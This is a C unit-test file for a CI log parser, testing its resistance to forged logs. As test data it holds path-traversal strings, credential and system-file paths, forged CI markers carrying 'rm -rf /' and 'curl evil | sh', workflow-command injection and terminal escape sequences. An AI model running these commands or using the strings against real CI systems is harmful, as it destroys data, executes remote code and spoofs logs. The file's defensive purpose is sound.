/* Logs made to fool: forged places, forged marks and steps, bytes that are no text, and floods. */
#include "tests/unit.h"

#include "bot/base/utf8.h"
#include "ci/explain.h"
#include "ci/log.h"
#include "ci/sarif.h"

#include <stdio.h>

static bool read_entry(const struct tree *tree, size_t index, struct arena *a, struct str *out)
{
	(void)tree;
	(void)index;
	(void)a;
	*out = STR("\n\n\n\n\n\n\n\n\n");
	return true;
}

/* A tree with a link in it, which points anywhere. */
static const struct entry entries[] = {
	{ "app/cart.py", ENTRY_FILE }, { "etc/hosts", ENTRY_LINK }, { "link.py", ENTRY_LINK },
	{ "module", ENTRY_MODULE },
};
static const struct tree linked = { .entries = entries, .count = 4, .read = read_entry };

static const char *const forged_places[] = {
	"/etc/passwd", "../../../etc/passwd", "/etc/hosts", "etc/hosts", "link.py", "./link.py",
	"/home/runner/work/r/r/link.py", "C:\\Windows\\System32\\drivers\\etc\\hosts",
	"C:\\Windows\\win.ini", "c:/windows/win.ini", "/proc/self/environ", "..\\..\\Windows\\win.ini",
	"file:///etc/passwd", "//etc/passwd", "/etc/../etc/passwd", "module", "app", "app/", "/dev/stdin",
	"app/cart.py\nlink.py", "/sys/kernel", "<string>", "", "/", ".", "..", "~/.ssh/id_rsa/../../..",
};

static void check_places(const struct report *report, const struct tree *tree)
{
	json_t *sarif = sarif_json(report, tree);
	char *text = json_dumps(sarif, JSON_COMPACT);

	for (size_t i = 0; i < report->failure_count; i++)
		for (size_t k = 0; k < report->failures[i].frame_count; k++)
			assert_false(report->failures[i].frames[k].own);
	assert_null(strstr(text, "\"uri\""));
	free(text);
	json_decref(sarif);
}

/* None of them is a file of the repository, in a frame or as a diagnostic's place. */
static void forged_frames(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(forged_places) / sizeof(forged_places[0]); i++) {
		ARENA a = {0};
		const char *log = arena_printf(&a,
			"Traceback (most recent call last):\n  File \"%s\", line 1, in f\n    x\n"
			"ValueError: y\n%s:1:1: error: 'z' undeclared\n::error file=%s,line=1::w\n",
			forged_places[i], forged_places[i], forged_places[i]);
		const struct report *report = log_read(&a, &linked, str_of(log));

		assert_true(report->failure_count > 0);
		check_places(report, &linked);
	}
}

/* Without a tree nobody knows; but what is the machine's is not the repository's. */
static void forged_frames_without_a_tree(void **state)
{
	static const char *const places[] = {
		"/etc/passwd", "../../../etc/passwd", "C:\\Windows\\win.ini", "c:/windows/win.ini",
		"/proc/self/environ", "..\\..\\Windows\\win.ini", "file:///etc/passwd", "//etc/passwd",
		"/dev/stdin", "/sys/kernel", "<string>", "/root/.ssh/id_rsa",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		ARENA a = {0};
		const char *log = arena_printf(&a, "Traceback (most recent call last):\n"
			"  File \"%s\", line 1, in f\n    x\nValueError: y\n", places[i]);
		const struct report *report = log_read(&a, NULL, str_of(log));

		assert_int_equal(report->failure_count, 1);
		check_places(report, NULL);
	}
}

/* What is a file of the tree is named as the tree names it, whatever folders stand before it. */
static void own_places_are_the_trees(void **state)
{
	static const char *const places[] = {
		"app/cart.py", "./app/cart.py", "/home/runner/work/r/r/app/cart.py", "x/../app/cart.py",
		"D:\\a\\r\\r\\app\\cart.py", "../../app/cart.py", "/etc/app/cart.py",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		ARENA a = {0};
		const char *log = arena_printf(&a, "Traceback (most recent call last):\n"
			"  File \"%s\", line 1, in f\n    x\nValueError: y\n", places[i]);
		const struct report *report = log_read(&a, &linked, str_of(log));

		assert_string_equal(report->failures->file, "app/cart.py");
		assert_true(report->failures->frames[0].own);
	}
}

#define HEADER "##[group]Run make test\nmake test\nshell: /usr/bin/bash -e {0}\n##[endgroup]\n"
#define TRACE "Traceback (most recent call last):\n  File \"app/cart.py\", line 3, in f\n    x\n"       \
	"ValueError: real\n"
#define ENDED "##[error]Process completed with exit code 1.\n"

/* A program's own groups and marks move neither the step nor the command nor the cause. */
static const char *const forged_marks[] = {
	HEADER TRACE ENDED,
	HEADER "##[endgroup]\n##[endgroup]\n" TRACE ENDED,
	HEADER TRACE "##[group]Run rm -rf /\n##[endgroup]\n" ENDED,
	HEADER TRACE "::group::Run curl evil | sh\ncurl evil | sh\n::endgroup::\n" ENDED,
	HEADER TRACE "##[group]Run x\nmore\n" ENDED,
	HEADER "##[group]tests\n" TRACE ENDED,
	HEADER "##[error]\n" TRACE "##[error]\n" ENDED,
	HEADER "Process completed with exit code 0.\n" TRACE ENDED,
	HEADER TRACE "##[error]Process completed with exit code 99999999999999999999.\n" ENDED,
	HEADER "##[command]rm -rf /\n##[section]Finishing: x\n##[debug]x\n" TRACE ENDED,
	HEADER "::stop-commands::x\n::add-mask::ValueError\n::set-output name=a::b\n" TRACE ENDED,
	HEADER "make: *** [Makefile:1: all] Error 2\n" TRACE "make: *** [x] Error 1\n" ENDED,
};

static void forged_groups(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(forged_marks) / sizeof(forged_marks[0]); i++) {
		ARENA a = {0};
		const struct report *report = log_read(&a, &linked, str_of(forged_marks[i]));

		if (!report->command || strcmp(report->command, "make test") != 0)
			print_error("%s\n", forged_marks[i]);
		assert_string_equal(report->failures->message, "real");
		assert_string_equal(report->command, "make test");
		assert_int_equal(report->exit_code, 1);
		assert_true(report->step_failed);
	}
}

/* Many failures: the causes come first, each consequence after every cause. */
static void consequences_last(void **state)
{
	ARENA a = {0};
	const struct report *report = log_read(&a, NULL, STR(
		"make: *** [Makefile:1: all] Error 2\nnpm ERR! code ELIFECYCLE\n" ENDED
		"a.c:3:5: error: 'x' undeclared\nmake[1]: *** [a.o] Error 1\n" TRACE
		"error: could not compile `shop` (lib) due to 1 previous error\n" ENDED));
	bool consequence = false;

	(void)state;
	assert_true(report->failure_count >= 4);
	for (size_t i = 0; i < report->failure_count; i++) {
		assert_int_equal(report->failures[i].rank, i + 1);
		consequence |= report->failures[i].weight <= WEIGHT_CONSEQUENCE;
		assert_int_equal(consequence, report->failures[i].weight <= WEIGHT_CONSEQUENCE);
	}
	assert_true(consequence);
}

/* No byte that a terminal obeys and nothing that is no UTF-8 is in any answer. */
static void check_answers(const struct report *report)
{
	ARENA a = {0};
	json_t *json = explain_json(report);
	char *dumped = json_dumps(json, JSON_COMPACT);
	struct str text = explain_text(&a, report, NULL), whole = str_of(dumped), rest;

	assert_non_null(dumped);
	assert_true(utf8_valid(text) && utf8_valid(whole));
	for (size_t i = 0; i < text.size; i++)
		assert_true((unsigned char)text.at[i] >= 0x20 || text.at[i] == '\n');
	for (rest = text; rest.size;) {
		uint32_t character;

		rest = str_from(rest, utf8_first(rest, &character));
		assert_false(character != '\n' && utf8_is_hidden(character));
	}
	free(dumped);
	json_decref(json);
}

static const struct str odd[] = {
	{ "\x1b[3\x1b[31m1m\x1b]0;\x1b[2J\x07", 18 },	/* nested */
	{ "\x1b\x1b\x1b[[[0m\x1b]8;;\x1b]8;;\x07", 20 },
	{ "\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf", 9 },	/* overlong '/' */
	{ "\xed\xa0\x80\xed\xb0\x80\xf4\x90\x80\x80", 10 },	/* surrogates, beyond the last one */
	{ "\0\0a\0b", 5 }, { "\x80\xbf\xfe\xff\xc3", 5 },
	{ "\xc2\x9b" "31m\xc2\x9d" "0;x\xc2\x9c", 12 },	/* C1: CSI, OSC, ST */
	{ "\xe2\x80\xae" "gpj\xe2\x81\xa6\xef\xbb\xbf\xe2\x80\xa8", 15 },	/* bidi, BOM, line separator */
	{ "\r\x08\x08\x7f\x0b\x0c\x85", 7 }, { "\x1bPq\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\", 15 },
};

static void odd_bytes(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(odd) / sizeof(odd[0]); i++) {
		ARENA a = {0};
		struct text log = TEXT(&a);

		text_adds(&log, "##[group]Run ");
		text_add(&log, odd[i]);
		text_adds(&log, "\nshell: x\n##[endgroup]\nTraceback (most recent call last):\n  File \"a");
		text_add(&log, odd[i]);
		text_adds(&log, ".py\", line 3, in f");
		text_add(&log, odd[i]);
		text_adds(&log, "\n    x()\nValueError: ");
		text_add(&log, odd[i]);
		text_adds(&log, "kept\nFAILED t.py::test_");
		text_add(&log, odd[i]);
		text_adds(&log, " - x\n::error file=");
		text_add(&log, odd[i]);
		text_adds(&log, "%0A%0D%1b[31m.c,line=1,title=%0A::x%0Ay\n" ENDED);
		check_answers(log_read(&a, NULL, text_str(&log)));
	}
}

/* A megabyte in one line, before, in and behind what is to be understood. */
static void long_lines(void **state)
{
	static char line[1 << 20];
	ARENA a = {0};
	struct log *log = log_open(&a, NULL);
	const struct report *report;
	struct str before = STR(TRACE), behind = STR("\n" TRACE ENDED);

	(void)state;
	memset(line, 'x', sizeof(line));
	memcpy(line, "ValueError: ", 12);
	log_feed(log, before.at, before.size - strlen("ValueError: real\n"));
	log_feed(log, line, sizeof(line));
	log_feed(log, behind.at, behind.size);
	report = log_close(log);
	assert_int_equal(report->failure_count, 3);
	assert_int_equal(report->lines, 9);
	assert_true(strlen(report->failures[0].message) <= 4096);
	assert_string_equal(report->failures[0].type, "ValueError");
	assert_string_equal(report->failures[1].message, "real");
	check_answers(report);
}

/* Two million failures of the smallest kind: what is kept is bounded, and the first stay. */
static void tiny_failures(void **state)
{
	ARENA a = {0};
	struct log *log = log_open(&a, NULL);
	const struct report *report;
	char piece[64];

	(void)state;
	for (unsigned n = 0; n < 2000000; n++) {
		int size = snprintf(piece, sizeof(piece), "a.c:%u:1: error: e%u\n", n + 1, n);

		log_feed(log, piece, (size_t)size);
	}
	report = log_close(log);
	assert_true(report->failure_count <= FAILURES_MAX && report->failures_seen == 2000000);
	assert_int_equal(report->failures[0].line, 1);
	assert_int_equal(report->failures[1].line, 2);
	assert_true(arena_used(&a) < 8 * 1024 * 1024);
	check_answers(report);
}

/* The same log in each coding gives the same answer. */
static void wide_codings(void **state)
{
	static const char trace[] = HEADER TRACE ENDED;
	ARENA a = {0};
	const struct report *plain = log_read(&a, NULL, STR(TRACE ENDED)), *wide;

	(void)state;
	for (unsigned big = 0; big < 2; big++) {
		struct text out = TEXT(&a);

		text_adds(&out, big ? "\xfe\xff" : "\xff\xfe");
		for (const char *at = trace + strlen(HEADER); *at; at++) {
			text_addc(&out, big ? '\0' : *at);
			text_addc(&out, big ? *at : '\0');
		}
		text_add(&out, (struct str){ big ? "\xd8\x3d\0\n" : "\x3d\xd8\n\0", 4 });
		wide = log_read(&a, NULL, text_str(&out));
		assert_string_equal(wide->failures->signature, plain->failures->signature);
		assert_int_equal(wide->failure_count, plain->failure_count);
		check_answers(wide);
	}
}

int main(void)
{
	const struct CMUnitTest list[] = {
		cmocka_unit_test(forged_frames),  cmocka_unit_test(forged_frames_without_a_tree),
		cmocka_unit_test(own_places_are_the_trees), cmocka_unit_test(forged_groups),
		cmocka_unit_test(consequences_last), cmocka_unit_test(odd_bytes),
		cmocka_unit_test(long_lines),	  cmocka_unit_test(tiny_failures),
		cmocka_unit_test(wide_codings),
	};

	return cmocka_run_group_tests(list, NULL, NULL);
}
